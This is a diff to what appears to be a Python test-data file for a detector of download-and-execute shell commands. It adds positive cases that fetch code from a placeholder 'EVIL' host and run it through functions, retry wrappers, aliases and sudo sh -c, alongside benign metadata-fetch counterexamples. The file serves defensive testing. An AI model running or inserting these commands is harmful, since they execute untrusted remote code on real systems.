@@ -269,6 +269,18 @@ DOWNLOAD_FORMS: list[tuple[str, str]] = [
     ("printf_script_then_run", f"printf '%s\\n' 'wget -qO- {EVIL} | sh' > /opt/run.sh\n/opt/run.sh"),
     ("make_in_downloaded_tree", f"wget -q {EVIL}.tar.gz && tar xzf x.sh.tar.gz && cd x && make install"),
     ("setup_py_in_downloaded_tree", f"curl -sL {EVIL}.tgz | tar xz\npython3 setup.py install"),
+    ("function_runs_its_argument", f'run() {{ bash "$1"; }}\ncurl -so /tmp/x {EVIL}\nrun /tmp/x'),
+    ("keyword_function_runs_its_argument", f'function run {{ . "$1"; }}\ncurl -so /tmp/x {EVIL}\nrun /tmp/x'),
+    ("retry_wrapper", f'retry() {{ until "$@"; do sleep 1; done; }}\nretry curl -s {EVIL} | sh'),
+    (
+        "retry_wrapper_download_then_run",
+        f'retry() {{ for i in 1 2 3; do "$@" && return 0; done; }}\nretry curl -so /tmp/x {EVIL}\nretry bash /tmp/x',
+    ),
+    ("alias_for_sh", f"alias s=sh\ncurl -s {EVIL} | s"),
+    (
+        "written_by_sh_c_from_stdin",
+        f"curl -s {EVIL} | sudo sh -c 'cat > /usr/local/bin/x'\nchmod +x /usr/local/bin/x\nx",
+    ),
     ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
 ]
 
@@ -510,6 +522,12 @@ NOT_DOWNLOADS: list[tuple[str, str]] = [
     ("eval_ssh_agent", 'eval "$(ssh-agent -s)"'),
     ("metadata_into_command", 'hostnamectl set-hostname "$(curl -s -H Metadata-Flavor:Google http://metadata/name)"'),
     ("key_import", "rpm --import https://packages.example.com/key.asc"),
+    (
+        "retry_wrapper_with_metadata",
+        'retry() { for i in 1 2 3; do "$@" && return 0; done; }\n'
+        "R=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\nretry aws s3 ls --region $R",
+    ),
+    ("log_function_with_metadata", 'log() { echo "$*"; }\nT=$(curl -s http://169.254.169.254/t)\nlog started $T'),
 ]
 
 
